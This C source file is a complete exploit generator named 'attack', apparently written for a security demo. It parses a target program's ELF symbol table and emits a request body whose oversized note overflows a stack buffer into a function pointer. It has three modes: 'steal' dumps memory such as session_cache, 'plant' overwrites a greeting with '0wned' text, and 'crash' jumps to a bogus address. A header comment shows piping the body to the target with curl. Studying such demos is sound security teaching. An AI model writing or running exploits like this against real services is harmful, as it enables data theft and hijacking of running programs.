/* SPDX-License-Identifier: MIT */
/*
 * Builds the body that takes the demo's guest program over: a stanza whose note overflows into the
 * function pointer behind it (stanza.c, struct note). Everything it needs stands in the program's
 * own symbol table, as with any binary that an attacker can download.
 *
 *	attack PROGRAM steal [SYMBOL [BYTES]]	answer with memory (default: session_cache)
 *	attack PROGRAM plant [TEXT]		leave a text in `notice`, which the greeting shows
 *	attack PROGRAM crash			jump to an address that is none
 *
 * The body goes to stdout: attack build/stanza steal | curl --data-binary @- http://HOST:PORT/
 */
#include <elf.h>
#include <errno.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define NOTE_TEXT_BYTES 64
#define PROGRAM_MAX     (64l << 20)

/* A program file in memory. */
struct program {
	const char *name;
	unsigned char *data;
	size_t bytes;
};

static int complain(const char *name, const char *why)
{
	fprintf(stderr, "attack: %s: %s\n", name, why);
	return -1;
}

static int program_read(struct program *p, const char *name)
{
	FILE *f = fopen(name, "rb");
	long bytes = -1;

	*p = (struct program){.name = name};
	if (!f)
		return complain(name, strerror(errno));
	if (fseek(f, 0, SEEK_END) == 0)
		bytes = ftell(f);
	if (bytes > 0 && bytes <= PROGRAM_MAX && fseek(f, 0, SEEK_SET) == 0)
		p->data = malloc((size_t)bytes);
	if (p->data)
		p->bytes = fread(p->data, 1, (size_t)bytes, f);
	fclose(f);
	if (bytes <= 0 || p->bytes != (size_t)bytes) {
		free(p->data);
		return complain(name, "cannot be read");
	}
	return 0;
}

/* Bytes [offset, offset + bytes) of the file, NULL when it has none such. */
static const void *program_at(const struct program *p, uint64_t offset, uint64_t bytes)
{
	if (offset > p->bytes || bytes > p->bytes - offset)
		return NULL;
	return p->data + offset;
}

static bool section_at(const struct program *p, const Elf64_Ehdr *elf, size_t index,
		       Elf64_Shdr *section)
{
	const void *at =
		index < elf->e_shnum
			? program_at(p, elf->e_shoff + index * sizeof(*section), sizeof(*section))
			: NULL;

	if (at)
		memcpy(section, at, sizeof(*section));
	return at != NULL;
}

static bool symbol_in(const struct program *p, const Elf64_Shdr *table, const Elf64_Shdr *strings,
		      const char *name, Elf64_Sym *symbol)
{
	const char *names = program_at(p, strings->sh_offset, strings->sh_size);
	const char *symbols = program_at(p, table->sh_offset, table->sh_size);
	size_t bytes = strlen(name) + 1;

	if (!names || !symbols)
		return false;
	for (size_t at = 0; at + sizeof(*symbol) <= table->sh_size; at += sizeof(*symbol)) {
		memcpy(symbol, symbols + at, sizeof(*symbol));
		if (symbol->st_name < strings->sh_size &&
		    bytes <= strings->sh_size - symbol->st_name &&
		    memcmp(names + symbol->st_name, name, bytes) == 0)
			return true;
	}
	return false;
}

static int find(const struct program *p, const char *name, Elf64_Sym *symbol)
{
	Elf64_Ehdr elf;
	Elf64_Shdr table, strings;

	if (p->bytes < sizeof(elf))
		return complain(p->name, "not a program");
	memcpy(&elf, p->data, sizeof(elf));
	if (memcmp(elf.e_ident, ELFMAG, SELFMAG) != 0 || elf.e_ident[EI_CLASS] != ELFCLASS64 ||
	    elf.e_type != ET_EXEC || elf.e_shentsize != sizeof(Elf64_Shdr))
		return complain(p->name, "not a program with fixed addresses");
	for (size_t i = 0; section_at(p, &elf, i, &table); i++)
		if (table.sh_type == SHT_SYMTAB && section_at(p, &elf, table.sh_link, &strings) &&
		    symbol_in(p, &table, &strings, name, symbol))
			return 0;
	return complain(name, "no such symbol in the program");
}

static void put_encoded(const void *data, size_t bytes)
{
	const unsigned char *p = data;

	for (size_t i = 0; i < bytes; i++)
		printf("%%%02x", p[i]);
}

/* Little-endian, as the victim wants it. */
static void put_word(uint64_t word)
{
	unsigned char bytes[8];

	for (int i = 0; i < 8; i++)
		bytes[i] = (unsigned char)(word >> (8 * i));
	put_encoded(bytes, sizeof(bytes));
}

/* The stanza: the note's text, then what stands behind it on the stack. */
static void put_body(const char *text, uint64_t function, uint64_t first, uint64_t second)
{
	char room[NOTE_TEXT_BYTES] = {0};
	size_t length = strlen(text);

	memcpy(room, text, length < sizeof(room) ? length : sizeof(room) - 1);
	printf("Package: harmless\nVersion: 1.0\nX-Mayfly-Demo-Note: ");
	put_encoded(room, sizeof(room));
	put_word(function);
	put_word(first);
	put_word(second);
	printf("\n");
}

static int steal(const struct program *p, const char *name, const char *bytes)
{
	Elf64_Sym dump, from;

	if (find(p, "debug_dump", &dump) < 0 || find(p, name, &from) < 0)
		return -1;
	put_body("", dump.st_value, from.st_value, bytes ? strtoull(bytes, NULL, 0) : from.st_size);
	return 0;
}

static int plant(const struct program *p, const char *text)
{
	Elf64_Sym patch, to;

	if (find(p, "debug_patch", &patch) < 0 || find(p, "notice", &to) < 0)
		return -1;
	put_body(text, patch.st_value, to.st_value, NOTE_TEXT_BYTES);
	return 0;
}

static int crash(void)
{
	put_body("", 0x4141414141414141, 0, 0);
	return 0;
}

static int usage(void)
{
	fprintf(stderr, "usage: attack PROGRAM steal [SYMBOL [BYTES]] | plant [TEXT] | crash\n");
	return 2;
}

int main(int argc, char **argv)
{
	struct program p;
	int rc;

	if (argc < 3)
		return usage();
	if (program_read(&p, argv[1]) < 0)
		return 1;
	if (strcmp(argv[2], "steal") == 0)
		rc = steal(&p, argc > 3 ? argv[3] : "session_cache", argc > 4 ? argv[4] : NULL);
	else if (strcmp(argv[2], "plant") == 0)
		rc = plant(&p, argc > 3 ? argv[3] : "0wned by the client before you\n");
	else if (strcmp(argv[2], "crash") == 0)
		rc = crash();
	else
		return usage();
	free(p.data);
	return rc < 0 || fflush(stdout) != 0;
}
